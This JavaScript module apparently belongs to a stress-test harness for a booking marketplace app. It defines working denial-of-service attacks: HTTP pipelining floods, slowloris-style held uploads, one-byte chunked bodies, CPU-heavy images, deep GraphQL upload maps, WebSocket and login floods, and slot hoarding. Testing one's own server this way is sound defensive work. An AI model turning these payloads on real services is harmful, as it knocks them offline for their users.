// The attacks of a siege: in each, one cheap client or a few accounts try to deny service to all others. `run` runs in
// its own process until a point in time and returns one line about the responses.
import { setTimeout as sleep } from 'node:timers/promises';
import { WebSocket } from 'ws';
import { ATTACKS_ON_ACCOUNTS } from './account-attacks.mjs';
import { ATTACKS_WITH_BODIES } from './body-attacks.mjs';
import { clientFrom, countStatuses, formOf, rawFrom } from './client.mjs';
import { ATTACKER, inLoops, volleys } from './loops.mjs';
import { ATTACKS_ON_PARSERS } from './parser-attacks.mjs';
import { ATTACKS_OF_THREE_ADDRESSES } from './three-addresses.mjs';
import { pictureOfScans, pngOfChunks } from './costly-pictures.mjs';

/**
 * @typedef {import('./marketplace.mjs').Plan} Plan
 * @typedef {{ prepare?(marketplace: import('./marketplace.mjs').SiegeMarketplace): Promise<unknown>, run(plan: Plan,
 *   until: number): Promise<string> }} Attack
 */

/** @type {Record<string, Attack>} */
export const ATTACKS = {
  /** No attack, for comparison. */
  none: {
    async run(_plan, until) {
      await sleep(until - Date.now());
      return 'none';
    },
  },

  /** A variable that repeats a phrase of graphql-js's error messages. */
  'error-messages': {
    run: ({ url }, until) =>
      inLoops(8, until, url, (client, n) => {
        const { query, variables } = messages(n);
        return client.graphql(query, variables);
      }),
  },

  /** Four connections, each with thousands of requests in one segment. */
  'pipelined-queries': {
    run: ({ url, market }, until) => {
      const id = market.services[0]?.id;
      return volleys(
        { url, until, connections: 4, requests: 3_000, read: true },
        () => `GET /api/services/${id}/slots/2027-01-01 HTTP/1.1\r\nHost: x\r\n\r\n`,
      );
    },
  },
  'pipelined-pictures': {
    run: ({ url, market }, until) =>
      volleys(
        { url, until, connections: 8, requests: 3_000, read: false },
        () => `GET ${market.images[0]} HTTP/1.1\r\nHost: x\r\n\r\n`,
      ),
  },

  /** As many connections as an address may have, each with requests whose responses are not cached. */
  'many-connections': {
    run: ({ url }, until) =>
      inLoops(600, until, url, (client, n) =>
        client.send({ path: `/api/services?search=${Math.random().toString(36)}${n}` }),
      ),
  },

  /** One provider fills the catalogue with services of the maximum size. */
  'fill-catalogue': {
    run: ({ url, tokens }, until) =>
      inLoops(8, until, url, (client) => {
        const text = 'A celebration \u00e9\u4e2d '.repeat(400);
        return client.send({
          method: 'POST',
          path: '/api/providers/services',
          token: tokens.providers[0],
          body: {
            title: 'Everything',
            description: text.slice(0, 5_000),
            category: 'Other',
            price: 1,
            duration: '1 hour',
            features: Array.from({ length: 20 }, (_, n) => `${n} ${text}`.slice(0, 100)),
          },
        });
      }),
  },

  /**
   * A provider saves without a pause, so that cached responses are outdated at once, during queries with unique
   * aliases.
   */
  'renew-catalogue': {
    run: async ({ url, tokens }, until) => {
      const service = await clientFrom(url, ATTACKER).send({
        method: 'POST',
        path: '/api/providers/services',
        token: tokens.providers[1],
        body: { title: 'A', description: 'B', category: 'Other', price: 1, duration: '1 hour' },
      });
      const id = JSON.parse(service.text).service?._id;
      const [saves, queries] = await Promise.all([
        inLoops(2, until, url, (client, n) =>
          client.send({
            method: 'PUT',
            path: `/api/providers/services/${id}`,
            token: tokens.providers[1],
            body: {
              title: `A ${n}`,
              description: 'B',
              category: 'Other',
              price: 1,
              duration: '1 hour',
            },
          }),
        ),
        inLoops(4, until, url, (client, n) =>
          client.graphql(
            `{ a${n}${Math.floor(Math.random() * 1e6)}: services { id title description features images { url cardUrl } provider { name city } } }`,
          ),
        ),
      ]);
      return `saves: ${saves}; queries: ${queries}`;
    },
  },

  /** An administrator deletes a provider of 20,000 services. */
  'delete-large-account': {
    prepare: (marketplace) => marketplace.addProviderToDelete(20_000),
    async run({ url, tokens, providerToDelete }, until) {
      const begun = Date.now();
      const { status } = await clientFrom(url, ATTACKER).send({
        method: 'DELETE',
        path: `/api/admin/users/${providerToDelete}`,
        token: tokens.admin,
      });
      const took = Date.now() - begun;
      await sleep(Math.max(0, until - Date.now()));
      return `${status} after ${took} ms`;
    },
  },

  /** A provider with 20,000 slots and 50,000 bookings requests the dashboard, eight times at once. */
  dashboards: {
    run: ({ url, tokens }, until) =>
      inLoops(8, until, url, (client, n) => {
        const token = tokens.veteran;
        return n % 4 === 0
          ? client.send({ path: '/api/providers/slots', token })
          : n % 4 === 1
            ? client.send({ path: '/api/providers/bookings', token })
            : n % 4 === 2
              ? client.graphql('{ providerSlots { id date startTime endTime endsNextDay isBooked } }', {}, token)
              : client.graphql(
                  '{ providerBookings { id eventDate status eventType guestCount totalAmount createdAt user { name email } timeSlot { startTime endTime } customerDetails { name email phone } service { title category } } }',
                  {},
                  token,
                );
      }),
  },

  /**
   * A provider whose two hundred newest bookings have messages of maximum length requests the list, 100 times at once.
   */
  'long-messages': {
    prepare: (marketplace) => marketplace.addLongMessages(),
    run: ({ url, tokens }, until) =>
      inLoops(100, until, url, (client) => client.send({ path: '/api/providers/bookings', token: tokens.veteran })),
  },

  /** Fifteen database statements per request, a hundred requests at once. */
  'many-statements': {
    run: ({ url, tokens }, until) => {
      const fields = Array.from({ length: 15 }, (_, n) => `a${n}: providerStats { totalServices }`);
      return inLoops(100, until, url, (client) => client.graphql(`{ ${fields.join(' ')} }`, {}, tokens.veteran));
    },
  },

  /** Documents full of comments, with unique operation names, which a server might cache with all of their tokens. */
  'long-documents': {
    run: ({ url }, until) =>
      inLoops(8, until, url, (client, n) =>
        client.graphql(`query A${n} { config { appName } }${'#\n'.repeat(65_000)}`),
      ),
  },

  /** Unknown expectations, to which Node responds by itself, thousands in one segment. */
  'unknown-expectations': {
    run: ({ url }, until) =>
      volleys(
        { url, until, connections: 100, requests: 1_000, read: true },
        () => 'GET / HTTP/1.1\r\nHost: x\r\nExpect: x\r\n\r\n',
      ),
  },

  /** Endless bodies in chunks of one byte. */
  'tiny-pieces': {
    async run({ url }, until) {
      const pieces = '1\r\na\r\n'.repeat(10_000);
      let connections = 0;
      const send = async () => {
        while (Date.now() < until) {
          connections += 1;
          const { socket } = rawFrom(url, ATTACKER);
          socket.write(
            'POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n' +
              'Transfer-Encoding: chunked\r\n\r\n',
          );
          while (!socket.destroyed && Date.now() < until) {
            if (!socket.write(pieces)) await sleep(5);
            else await sleep(0);
          }
          socket.destroy();
          await sleep(20);
        }
      };
      await Promise.all(Array.from({ length: 100 }, send));
      return `${connections} connections`;
    },
  },

  /** Forms that are never sent completely, from one address with many accounts. */
  'held-forms': {
    async run({ url, tokens }, until) {
      const statuses = countStatuses();
      const forms = [...tokens.customers, ...tokens.providers].flatMap((token) =>
        Array.from({ length: 4 }, () => token),
      );
      const sockets = forms.map((token) => {
        const { socket } = rawFrom(url, ATTACKER);
        socket.once('data', (data) => statuses.add(String(data).slice(9, 12)));
        socket.write(
          `POST /api/providers/services HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\n` +
            'Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 40000000\r\n\r\n--x\r\n' +
            'Content-Disposition: form-data; name="images"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n',
        );
        return socket;
      });
      while (Date.now() < until) {
        await sleep(2_000);
        for (const socket of sockets) if (!socket.destroyed) socket.write('x');
      }
      for (const socket of sockets) socket.destroy();
      return `${forms.length} forms: ${statuses.line()}`;
    },
  },

  /** Pictures of 85 kB that take seconds of CPU time each, five per form. */
  'costly-pictures': {
    run({ url, tokens }, until) {
      const files = Array.from({ length: 5 }, (_, n) => ({
        name: `${n}.jpg`,
        bytes: n % 2 === 0 ? pictureOfScans(100) : pngOfChunks(8_000_000),
        type: n % 2 === 0 ? 'image/jpeg' : 'image/png',
      }));
      const { type, body } = formOf(
        { title: 'A', description: 'B', category: 'Other', price: '1', duration: '1 hour' },
        files,
      );
      return inLoops(12, until, url, (client, n) =>
        client.send({
          method: 'POST',
          path: '/api/providers/services',
          token: tokens.providers[2 + (n % 3)],
          type,
          body,
        }),
      );
    },
  },

  /** Multipart requests of 180 kB whose map names a variable thousands of levels deep. */
  'upload-maps': {
    run({ url }, until) {
      const path = `variables${'.a'.repeat(4_500)}`;
      const map = JSON.stringify({ 0: Array.from({ length: 20 }, () => path) });
      const operations = JSON.stringify({ query: '{ config { appName } }', variables: {} });
      const { type, body } = formOf({ operations, map, 0: '' }, []);
      return inLoops(8, until, url, (client) =>
        client.send({
          method: 'POST',
          path: '/graphql',
          headers: { 'apollo-require-preflight': 'true' },
          type,
          body,
        }),
      );
    },
  },

  /** Messages with invalid variables over four WebSockets, without a pause. */
  'socket-flood': {
    async run({ url }, until) {
      let sent = 0;
      const closes = countStatuses();
      const flood = async () => {
        while (Date.now() < until) {
          const socket = new WebSocket(new URL('/graphql', url.replace('http', 'ws')), 'graphql-transport-ws', {
            localAddress: ATTACKER,
          });
          socket.on('error', () => undefined);
          socket.on('close', (code) => closes.add(code));
          await new Promise((resolve) => socket.once('open', resolve).once('error', resolve));
          socket.send(JSON.stringify({ type: 'connection_init' }));
          const payload = {
            query: 'subscription($x: Boolean!) { bookingChanged { id @skip(if: $x) } }',
            variables: { x: 'a'.repeat(1_000) },
          };
          for (let n = 0; socket.readyState === WebSocket.OPEN && Date.now() < until; n += 1) {
            socket.send(JSON.stringify({ id: String(n), type: 'subscribe', payload }));
            sent += 1;
            if (n % 50 === 0) await sleep(1);
          }
          socket.terminate();
          await sleep(50);
        }
      };
      await Promise.all(Array.from({ length: 4 }, flood));
      return `${sent} messages, closed with ${closes.line()}`;
    },
  },

  /** Wrong passwords from one address, two hundred at once. */
  'login-flood': {
    run: ({ url }, until) =>
      inLoops(200, until, url, (client) =>
        client.send({
          method: 'POST',
          path: '/api/auth/login',
          body: { email: `nobody-${Math.random()}@example.com`, password: 'a wrong one' },
        }),
      ),
  },

  /** Accounts that book one time slot after the other. */
  'hoard-slots': {
    run({ url, tokens, market }, until) {
      let next = 0;
      return inLoops(4, until, url, (client) => {
        // From the end, since honest clients book from the beginning.
        const slot = market.slots[market.slots.length - 1 - (next++ % 1_000)];
        return client.send({
          method: 'POST',
          path: '/api/bookings',
          token: tokens.customers[next % 4],
          body: {
            serviceId: slot?.serviceId,
            providerId: slot?.providerId,
            eventDate: slot?.date,
            timeSlot: slot?.id,
            eventType: 'Wedding',
            guestCount: 50,
            customerDetails: { name: 'Nobody', email: 'nobody@example.com', phone: '555-0101' },
          },
        });
      });
    },
  },

  ...ATTACKS_OF_THREE_ADDRESSES,
  ...ATTACKS_ON_PARSERS,
  ...ATTACKS_WITH_BODIES,
  ...ATTACKS_ON_ACCOUNTS,
};

/** @param {number} n */
function messages(n) {
  const search = 'query($f: ServicesFilter) { services(filter: $f) { id } }';
  const guess = 'Did you mean ';
  const kinds = [
    { query: search, variables: { f: { search: { a: guess.repeat(14_500) } } } },
    {
      query: search,
      variables: {
        f: {
          search: { a: guess.repeat(14_000) },
          ...Object.fromEntries(Array.from({ length: 49 }, (_, n) => [`k${n}`, 1])),
        },
      },
    },
    {
      query: 'query($r: UserRole) { adminUsers(role: $r) { id } }',
      variables: { r: ' cannot represent '.repeat(10_000) },
    },
    {
      query: search,
      variables: {
        f: Object.fromEntries(Array.from({ length: 17_000 }, (_, n) => [`k${n}`, 1])),
      },
    },
    {
      query: `{ services(filter: { search: { a: "${guess.repeat(14_000)}" } }) { id } }`,
      variables: {},
    },
  ];
  return /** @type {{ query: string, variables: object }} */ (kinds[n % kinds.length]);
}
